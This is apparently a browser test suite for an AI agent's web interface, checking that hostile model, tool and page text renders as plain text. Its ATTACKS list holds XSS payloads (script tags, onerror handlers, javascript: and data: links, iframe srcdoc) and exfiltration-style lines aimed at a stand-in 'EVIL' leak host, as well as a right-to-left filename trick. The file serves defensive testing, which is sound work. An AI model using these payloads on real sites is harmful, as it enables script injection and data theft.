import fc from "fast-check";
import { describe, expect } from "vitest";
import { z } from "zod";
import { defineTool } from "../../src/agent/core/tool.ts";
import { test } from "../support/chromium.ts";
import { seedOr } from "../support/seed.ts";
import { startServer } from "../support/server.ts";
import { json } from "../support/team.ts";
import { runs, seen } from "./seen.ts";

/** Nothing answers there. */
const EVIL = "http://127.0.0.1:9";
const ATTACKS = [
  `![x](${EVIL}/leak?q=SECRET)`,
  '<img src=x onerror="window.pwned=1">',
  "<script>window.pwned=2</script>",
  "[click](javascript:window.pwned=3)",
  '<iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  "[a](data:text/html,<script>opener.pwned=5</script>)",
  "<svg><style><img src=x onerror=window.pwned=6></style></svg>",
  '<a href="&#106;avascript:window.pwned=7">b</a>',
  "[ref]: javascript:window.pwned=8\n\n[ref]",
  `<link rel=stylesheet href=${EVIL}/leak.css>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/leak">`,
  `<form action=${EVIL}/leak><button>ok</button></form>`,
  `<base href=${EVIL}/>`,
  `![](//127.0.0.1:9/leak)`,
  `${EVIL}/auto`,
  `<style>@import '${EVIL}/leak.css';</style>`,
];
const ATTACK = ATTACKS.join("\n\n");
/** Of one line, for names. */
const SHORT = '<img src=x onerror="window.pwned=9"> \u202egnp.exe';

const tool = defineTool({
  name: "browse",
  description: ATTACK,
  parameters: z.object({ url: z.string() }),
  execute: () => ATTACK,
});

const AGENTS = `
agents:
  assistant:
    model: "scripted:test"
    description: ${JSON.stringify(ATTACK)}
    tools: [browse]
    backend: { type: local }
    permissions: { rules: [{ ask: execute }, { allow: "write_*" }, { allow: "read_*" }, { allow: ls }, { allow: browse }] }
`;

/** What the agent says and does is an attack; then it asks. */
async function attacking() {
  const { url } = await startServer({
    agents: AGENTS,
    tools: [tool],
    script: [
      {
        think: ATTACK,
        say: ATTACK,
        call: [
          { tool: "browse", args: { url: ATTACK } },
          { tool: "write_file", args: { path: `${SHORT.replaceAll("/", "")}.md`, content: ATTACK } },
          { tool: "write_todos", args: { todos: [{ id: "1", title: ATTACK, status: "pending" }] } },
          { tool: SHORT, args: { [SHORT]: SHORT } },
        ],
      },
      { say: ATTACK, call: [{ tool: "execute", args: { command: `echo ${SHORT}` } }] },
      { say: "Well", fail: { code: "model_rejected", message: ATTACK } },
    ],
  });
  const run = await runs(url, "attack", { input: ATTACK });
  await json(`${url}/threads/attack`, {
    method: "PATCH",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ title: SHORT }),
  });
  return { url, run };
}

const VIEWS: readonly (readonly [hash: string, text: string | RegExp])[] = [
  ["#/t/attack", "window.pwned=2"],
  ["#/t/attack/todos", "window.pwned=2"],
  ["#/t/attack/questions", "echo <img"],
  ["#/t/attack/files", "window.pwned=9"],
  ["#/t/attack/trace", "browse"],
  ["#/t/attack/events", "run_start"],
  ["#/t/attack/r/RUN/trace", "browse"],
  ["#/t/attack/r/RUN/events", "run_start"],
  ["#/inbox", "echo <img"],
  ["#/runs", "Waiting"],
  ["#/usage", "scripted:test"],
  ["#/agents", "window.pwned=2"],
  ["#/agents/assistant", "window.pwned=2"],
  ["#/tools", "Tools"],
  [`#/agents/${encodeURIComponent(SHORT)}`, "Agents"],
  [`#/t/${encodeURIComponent(SHORT)}/r/${encodeURIComponent(SHORT)}/trace`, "Run"],
];

describe("text from a model, a tool or a web page", () => {
  test("is shown as text in every view: nothing runs, nothing is requested from another server, and no policy is violated", async () => {
    const { url, run } = await attacking();
    const tab = await seen(url);
    for (const [hash, text] of VIEWS) {
      await tab.go(hash.replace("RUN", run), text);
      expect([hash, await tab.harm()]).toEqual([hash, []]);
    }
    await tab.screenshot("page-hostile");
    // Some of these agents and runs cannot exist.
    tab.allowErrors("400", "404");
  });

  test("is shown as text even while it is streamed, cut at any position", async () => {
    const { url } = await startServer({ script: () => ({ say: `${ATTACK}\n\nThat was it.`, delay_ms: 1 }) });
    const tab = await seen(url);
    await runs(url, "cut", { input: "Go.", background: true });
    await tab.go("#/t/cut", "That was it.");
    expect(await tab.harm()).toEqual([]);
  });

  test("links only to the addresses that it shows", async () => {
    const { url } = await attacking();
    const tab = await seen(url);
    await tab.go("#/t/attack", "window.pwned=2");
    const addresses = await tab.page.evaluate<string[]>(
      `[...document.querySelectorAll("main a[href]")].map((link) => link.getAttribute("href"))`,
    );
    for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:|#|\/\/)/);
    await expect
      .poll(() => tab.page.locator("main img[src^=http], main iframe, main form[action], main base").count())
      .toBe(0);
  });

  test("is shown as text even if it consists of HTML and Markdown symbols", async () => {
    const sign = fc.constantFrom(
      ...[
        "<",
        ">",
        "&",
        '"',
        "'",
        "`",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "!",
        "|",
        "#",
        "-",
        "\n",
        " ",
        "\\",
        "~",
      ],
      ...[
        "<img src=x onerror=window.pwned=1>",
        "<script>window.pwned=1</script>",
        "javascript:window.pwned=1",
      ],
      ...[EVIL, "&#106;", "data:text/html,", "<svg onload=window.pwned=1>", "```", "](", "a", "\u202e"],
    );
    const texts = fc.sample(fc.string({ unit: sign, maxLength: 20 }), { numRuns: 1_000, seed: seedOr(17) });
    const { url } = await startServer({
      script: (_, call) => ({
        say: texts
          .slice(call * 100)
          .slice(0, 100)
          .join("\n\n"),
      }),
    });
    for (let turn = 0; turn < 10; turn++) await runs(url, "signs", { input: texts[turn] || "Go." });
    await runs(url, "signs", { input: "That was it." });
    const tab = await seen(url);
    await tab.go("#/t/signs", "That was it.");
    expect(await tab.harm()).toEqual([]);
  });
});
